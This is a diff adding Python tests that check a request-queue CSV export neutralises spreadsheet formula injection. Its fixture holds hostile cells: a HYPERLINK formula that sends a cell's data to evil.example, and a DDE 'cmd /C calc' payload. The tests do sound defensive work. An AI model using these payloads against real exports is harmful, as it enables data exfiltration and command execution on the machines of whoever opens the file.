@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import email
 import hashlib
 import hmac
+import io
 import json
 import os
 import re
@@ -29,6 +31,7 @@ from assistant import (
     VerificationError,
 )
 from assistant.requests import STATUSES, TRANSITIONS, RequestQueue, add_months, due_date
+from assistant.requests.export import spreadsheet_safe
 from assistant.requests.outbox import OutboxWorker
 from assistant.requests.sinks import SIGNATURE_HEADER, TIMESTAMP_HEADER
 
@@ -253,6 +256,64 @@ def test_list_filters_overdue_and_export(queue):
     assert "access erasure" in csv_text and len(csv_text.strip().splitlines()) == 4
     with pytest.raises(RequestError, match="use csv or json"):
         queue.export("xml")
+
+
+# What a visitor could type to make a spreadsheet run a formula when the team opens the export.
+HOSTILE = {
+    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Jo")',
+    "data_concerned": "  +cmd|' /C calc'!A0",
+    "categories": ["-2+3", "purchases"],
+}
+
+
+def formula_cells(csv_text: str) -> list[str]:
+    """Cells of ``csv_text`` that a spreadsheet would evaluate as a formula."""
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))
+    ]
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_evaluate(queue):
+    reference = queue.submit(draft(**HOSTILE), "hostile", now=NOW).request.reference
+    queue.assign(reference, "@ana", actor="lead")
+    queue.extend(reference, "=1+1 systems to search", actor="lead", months=1)
+    csv_text = queue.export("csv")
+    assert formula_cells(csv_text) == []
+    (row,) = csv.DictReader(io.StringIO(csv_text))
+    assert row["name"] == "'" + HOSTILE["name"]  # kept whole, read as text
+    assert row["data_concerned"] == "'" + HOSTILE["data_concerned"]
+    assert row["categories"] == "'-2+3; purchases"
+    assert row["assignee"] == "'@ana"
+    assert row["extension_reason"] == "'=1+1 systems to search"
+    assert row["email"] == "jo@example.com" and row["extension_months"] == "1"
+    (exported,) = json.loads(queue.export("json"))  # JSON is data, not a sheet: unchanged
+    assert exported["name"] == HOSTILE["name"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 20 7946 0958", "'+44 20 7946 0958"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("   =1", "'   =1"),
+        ("\n@x", "'\n@x"),
+        ("Jo = Bloggs", "Jo = Bloggs"),
+        ("jo@example.com", "jo@example.com"),
+        ("", ""),
+        (3, 3),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe(cell, safe):
+    assert spreadsheet_safe(cell) == safe
 
 
 def test_claim_next_takes_verified_requests_soonest_due_first(queue):
